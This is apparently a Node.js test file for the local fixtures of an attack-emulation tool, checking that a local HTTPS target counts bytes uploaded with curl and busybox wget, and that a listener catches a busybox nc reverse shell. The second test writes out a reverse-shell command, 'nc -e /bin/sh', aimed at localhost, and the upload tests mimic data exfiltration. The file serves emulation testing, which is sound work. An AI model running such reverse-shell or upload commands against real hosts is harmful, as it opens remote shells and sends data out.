// The far ends of the emulations, exercised with the real clients the
// scenarios use (curl, busybox wget and nc, openssl).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { startHttpsTarget, startListener } from './fixtures.js';

const run = promisify(execFile);

test('the HTTPS target accepts curl -T and busybox wget --post-file and counts the bytes', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'stowaway-fx-'));
  const target = await startHttpsTarget(dir);
  try {
    await writeFile(join(dir, 'payload.bin'), Buffer.alloc(1234, 7));
    await run('curl', ['-sk', '-T', join(dir, 'payload.bin'), target.url]);
    await run('busybox', ['wget', '-q', '-O', '/dev/null', '--no-check-certificate', '--post-file', join(dir, 'payload.bin'), target.url]);
    assert.deepEqual(
      target.uploads.map((u) => [u.method, u.bytes]),
      [
        ['PUT', 1234],
        ['POST', 1234],
      ],
    );
  } finally {
    await target.close();
    await rm(dir, { recursive: true, force: true });
  }
});

test('the ncat listener drives a busybox nc reverse shell to exit on its own', async () => {
  const l = await startListener();
  try {
    const { stdout } = await run('busybox', ['nc', '127.0.0.1', String(l.port), '-e', '/bin/sh'], { timeout: 15000 });
    assert.equal(stdout, '', 'the shell output goes to the listener, not here');
    assert.equal(l.connected(), true);
  } finally {
    await l.close();
  }
});
